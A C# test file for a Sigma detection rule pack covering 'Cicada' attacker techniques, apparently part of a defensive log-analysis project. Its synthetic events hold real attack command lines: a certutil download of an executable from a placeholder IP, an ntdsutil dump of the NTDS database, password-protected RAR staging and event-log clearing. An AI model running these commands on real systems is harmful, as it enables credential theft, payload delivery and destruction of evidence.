using Semitori.Sigma.Correlation;
using Semitori.Sigma.Engine;
using Semitori.Sigma.Events;
using Xunit.Abstractions;

namespace Semitori.Sigma.Tests;

/// <summary>
/// The built-in Cicada pack: every rule loads, cites a source and an ATT&amp;CK id, fires on a
/// benign synthetic event that reproduces its technique, and stays silent on the EVTX samples,
/// which contain no attack.
/// </summary>
public class CicadaPackTests(ITestOutputHelper output)
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";
    private static readonly DateTime T0 = new(2026, 11, 25, 10, 0, 0, DateTimeKind.Utc);

    private static readonly SigmaRuleSet Pack = new SigmaRuleSetBuilder().AddBuiltInPack().Build();

    public static TheoryData<string, string> Techniques => new()
    {
        { "Cicada WMIExec Command With Output Redirected To ADMIN Share", "wmiexec" },
        { "Cicada AdFind Active Directory Reconnaissance", "adfind" },
        { "Cicada AdFind Active Directory Reconnaissance", "adfind-renamed" },
        { "Cicada Csvde Active Directory Export", "csvde" },
        { "Cicada Ntdsutil IFM Or Snapshot Of NTDS", "ntdsutil" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-decode" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-urlcache" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-addstore" },
        { "Cicada Password-Protected RAR Archive Creation", "rar-password" },
        { "Cicada Archive Staged Under Recycle Bin", "rar-recycle-bin" },
        { "Cicada NBTScan Network Discovery", "nbtscan" },
        { "Cicada Remote Scheduled Task Creation", "schtasks-remote" },
        { "Cicada Wevtutil Clear Log", "wevtutil" },
        { "Cicada Service Installed From User-Writable Folder", "service-7045" },
        { "Cicada Zerologon Netlogon Vulnerable Secure Channel", "netlogon-5829" },
        { "Cicada Zerologon Netlogon Vulnerable Secure Channel", "netlogon-5805" },
        { "Cicada Zerologon Machine Account Changed By Anonymous Logon", "4742-anonymous" },
        { "Cicada Security Log Cleared", "1102" },
        { "Cicada Event Log Cleared", "104" },
    };

    [Fact]
    public void Every_rule_loads_and_cites_a_source_and_an_attack_technique()
    {
        Assert.Empty(Pack.Rejected);
        Assert.True(Pack.Rules.Count >= 16, $"{Pack.Rules.Count} rules");
        Assert.Single(Pack.Correlations);
        foreach (var rule in Pack.Rules.Select(r => r.Rule).Concat(Pack.Correlations.Select(c => c.Rule)))
        {
            Assert.Equal("Semitori", rule.Author);
            Assert.Contains(rule.References, r => r.StartsWith("https://", StringComparison.Ordinal));
            Assert.NotEmpty(rule.AttackIds);
        }
    }

    [Theory]
    [MemberData(nameof(Techniques))]
    public void Each_technique_fires_its_rule(string title, string technique)
    {
        List<string> fired = new SigmaMatcher(Pack).Match(Synthetic(technique)).Select(r => r.Rule.Title).ToList();
        Assert.Contains(title, fired);
    }

    [Fact]
    public void Ordinary_processes_do_not_fire()
    {
        var matcher = new SigmaMatcher(Pack);
        Assert.Empty(matcher.Match(Process(@"C:\Windows\System32\cmd.exe", "cmd.exe /c dir", @"C:\Windows\explorer.exe")));
        Assert.Empty(matcher.Match(Process(@"C:\Windows\System32\certutil.exe", "certutil -hashfile a.exe SHA256")));
        Assert.Empty(matcher.Match(Process(@"C:\Program Files\WinRAR\rar.exe", @"rar.exe x backup.rar C:\restore")));
        Assert.Empty(matcher.Match(Event("Security", 4742, ("SubjectUserName", "admin"))));
    }

    [Fact]
    public void A_burst_of_net_use_fires_the_correlation_once_and_a_few_do_not()
    {
        var correlator = new SigmaCorrelator(Pack);
        var matcher = new SigmaMatcher(Pack);
        for (int i = 0; i < 8; i++)
        {
            DictionaryEvent evt = Process(@"C:\Windows\System32\net.exe", $@"net use \\10.0.0.{i}\c$ /user:corp\svc x", time: T0.AddSeconds(i * 3));
            foreach (SigmaCompiledRule rule in matcher.Match(evt))
            {
                Assert.False(rule.Generate); // the single connection only feeds the correlation
                correlator.Observe(rule, evt);
            }
        }

        for (int i = 0; i < 3; i++)
        {
            DictionaryEvent evt = Process(@"C:\Windows\System32\net.exe", $@"net use \\10.0.1.{i}\c$", computer: "WS2", time: T0.AddSeconds(i));
            matcher.Match(evt).ForEach(r => correlator.Observe(r, evt));
        }

        SigmaDetection detection = Assert.Single(correlator.Complete());
        Assert.Equal("Cicada Net Use Burst", detection.Rule.Title);
        Assert.Equal(5, detection.Events.Count);
        Assert.Equal("WS1", detection.GroupKey);
    }

    /// <summary>
    /// Records of the samples that really show a covered behaviour, checked by hand: system.evtx
    /// (a developer machine) holds two genuine "System log cleared" events (104, records 1847
    /// and 1848, user tony) and a service installed from a %TEMP% pytest folder (Pathfinder,
    /// indistinguishable in the log from the technique). A rule that stayed silent on them would
    /// be broken; everything else must stay silent.
    /// </summary>
    private static readonly string[] GenuineInSamples =
    [
        "system.evtx: Cicada Event Log Cleared: 1847",
        "system.evtx: Cicada Event Log Cleared: 1848",
        "system.evtx: Cicada Service Installed From User-Writable Folder: Pathfinder",
    ];

    [SharedDataFact]
    public void Pack_is_silent_on_the_non_attack_samples()
    {
        var matcher = new SigmaMatcher(Pack);
        var correlator = new SigmaCorrelator(Pack);
        int events = 0;
        var fired = new List<string>();
        foreach (string path in Directory.EnumerateFiles(SharedData.Samples, "*.evtx").Order(StringComparer.Ordinal))
        {
            foreach (EvtxEvent evt in EvtxEvents.Read(path))
            {
                events++;
                foreach (SigmaCompiledRule rule in matcher.Match(evt))
                {
                    correlator.Observe(rule, evt);
                    if (rule.Generate)
                    {
                        string key = evt.TryGetField("ServiceName", out object? service) ? service!.ToString()! : evt.Fields["EventRecordID"].ToText();
                        fired.Add($"{Path.GetFileName(path)}: {rule.Rule.Title}: {key}");
                    }
                }
            }
        }

        fired.AddRange(correlator.Complete().Select(d => d.Rule.Title));
        output.WriteLine($"{events} events, {fired.Count} detections");
        fired.ForEach(output.WriteLine);
        Assert.True(events > 15000);
        Assert.Equal(GenuineInSamples.Order(StringComparer.Ordinal), fired.Order(StringComparer.Ordinal));
    }

    private static DictionaryEvent Synthetic(string technique) => technique switch
    {
        "wmiexec" => Process(@"C:\Windows\System32\cmd.exe", @"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1606123456.789 2>&1", @"C:\Windows\System32\wbem\WmiPrvSE.exe"),
        "adfind" => Process(@"C:\Users\Public\AdFind.exe", "AdFind.exe -f \"(objectcategory=computer)\" > c.txt"),
        "adfind-renamed" => Process(@"C:\Users\Public\af.exe", "af.exe -gcb -sc trustdmp"),
        "csvde" => Process(@"C:\Windows\System32\csvde.exe", @"csvde -f C:\windows\web\users.log"),
        "ntdsutil" => Process(@"C:\Windows\System32\ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\ifm\" q q"),
        "certutil-decode" => Process(@"C:\Windows\System32\certutil.exe", @"certutil -decode C:\Users\Public\a.txt C:\Users\Public\a.exe"),
        "certutil-urlcache" => Process(@"C:\Windows\System32\certutil.exe", @"certutil.exe -urlcache -f http://198.51.100.7/files/t.exe C:\ProgramData\t.exe"),
        "certutil-addstore" => Process(@"C:\Windows\System32\certutil.exe", @"certutil -addstore root C:\ProgramData\ca.cer"),
        "rar-password" => Process(@"C:\ProgramData\rar.exe", @"rar.exe a -hpP@ssw0rd -m5 -v200m C:\ProgramData\out.rar C:\Users\bob\Documents"),
        "rar-recycle-bin" => Process(@"C:\$Recycle.Bin\r.exe", @"r.exe a -hpx C:\$Recycle.Bin\data.rar D:\projects"),
        "nbtscan" => Process(@"C:\Users\Public\nbt.exe", "nbt.exe 10.0.0.0/24"),
        "schtasks-remote" => Process(@"C:\Windows\System32\schtasks.exe", "schtasks /create /s 10.0.0.5 /sc minute /mo 15 /tn \"Update\" /tr \"C:\\ProgramData\\GUP.exe\" /rl HIGHEST"),
        "wevtutil" => Process(@"C:\Windows\System32\wevtutil.exe", "wevtutil cl Microsoft-Windows-PowerShell/Operational"),
        "service-7045" => Event("System", 7045, ("Provider_Name", "Service Control Manager"), ("ServiceName", "upd"), ("ImagePath", @"C:\ProgramData\Microsoft\GUP.exe")),
        "netlogon-5829" => Event("System", 5829, ("Provider_Name", "NETLOGON")),
        "netlogon-5805" => Event("System", 5805, ("Provider_Name", "NETLOGON")),
        "4742-anonymous" => Event("Security", 4742, ("SubjectUserName", "ANONYMOUS LOGON"), ("TargetUserName", "DC01$")),
        "1102" => Event("Security", 1102, ("Provider_Name", "Microsoft-Windows-Eventlog"), ("SubjectUserName", "admin")),
        "104" => Event("System", 104, ("Provider_Name", "Microsoft-Windows-Eventlog")),
        _ => throw new ArgumentOutOfRangeException(nameof(technique), technique, null),
    };

    private static DictionaryEvent Process(string image, string commandLine, string parent = @"C:\Windows\System32\cmd.exe", string computer = "WS1", DateTime? time = null)
        => new(new Dictionary<string, object?>
        {
            ["Channel"] = Sysmon,
            ["EventID"] = 1L,
            ["Computer"] = computer,
            ["Image"] = image,
            ["CommandLine"] = commandLine,
            ["ParentImage"] = parent,
            ["User"] = @"CORP\bob",
            ["CurrentDirectory"] = @"C:\Windows\system32\",
        }, time ?? T0);

    private static DictionaryEvent Event(string channel, long eventId, params (string Key, object? Value)[] fields)
    {
        var map = new Dictionary<string, object?> { ["Channel"] = channel, ["EventID"] = eventId, ["Computer"] = "DC01" };
        foreach ((string key, object? value) in fields)
        {
            map[key] = value;
        }

        return new DictionaryEvent(map, T0);
    }
}
